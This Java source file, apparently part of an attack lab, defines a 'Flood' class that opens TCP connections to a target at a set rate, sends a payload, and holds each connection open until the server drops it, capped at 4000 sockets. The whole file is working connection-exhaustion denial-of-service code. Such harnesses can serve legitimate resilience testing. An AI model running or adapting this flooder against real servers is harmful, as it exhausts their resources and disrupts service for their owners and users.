package cedarrudder.lab.attack;

import java.io.Closeable;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;

/** Connections that come at a fixed rate and are held until the other side ends them. */
final class Flood implements Closeable {

    /** No more are held, whatever the rate: the attacker's own descriptors. */
    private static final int MAX_HELD = 4000;

    private static final int READ = 4096;

    private final InetSocketAddress to;
    private final byte[] text;
    private final long gapNanos;
    private final Selector selector = Selector.open();
    private final ByteBuffer read = ByteBuffer.allocate(READ);
    private final Thread thread;
    private volatile boolean over;
    private volatile int opened;
    private volatile int unopened;

    /** Begins. */
    Flood(InetSocketAddress to, FloodKind kind, int rate) throws IOException {
        this.to = to;
        text = kind.text().getBytes(StandardCharsets.ISO_8859_1);
        gapNanos = TimeUnit.SECONDS.toNanos(1) / rate;
        thread = new Thread(this::run, "flood");
        thread.setDaemon(true);
        thread.start();
    }

    private void run() {
        long due = System.nanoTime();
        try {
            while (!over) {
                for (; due <= System.nanoTime(); due += gapNanos) {
                    open();
                }
                selector.select(this::serve, Math.max(1, (due - System.nanoTime()) / 1_000_000));
            }
            for (SelectionKey key : selector.keys()) {
                key.channel().close();
            }
            selector.close();
        } catch (IOException e) {
            over = true;
        }
    }

    private void open() {
        if (selector.keys().size() >= MAX_HELD) {
            unopened++;
            return;
        }
        try {
            SocketChannel channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.connect(to);
            channel.register(selector, SelectionKey.OP_CONNECT);
        } catch (IOException e) {
            unopened++;
        }
    }

    private void serve(SelectionKey key) {
        SocketChannel channel = (SocketChannel) key.channel();
        try {
            if (key.isConnectable() && channel.finishConnect()) {
                opened++;
                channel.write(ByteBuffer.wrap(text));
                key.interestOps(SelectionKey.OP_READ);
            } else if (key.isReadable() && channel.read(read.clear()) < 0) {
                channel.close();
            }
        } catch (IOException e) {
            close(channel);
        }
    }

    private static void close(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException e) {
            // it is gone either way
        }
    }

    int opened() {
        return opened;
    }

    int unopened() {
        return unopened;
    }

    @Override
    public void close() throws IOException {
        over = true;
        selector.wakeup();
        try {
            thread.join();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
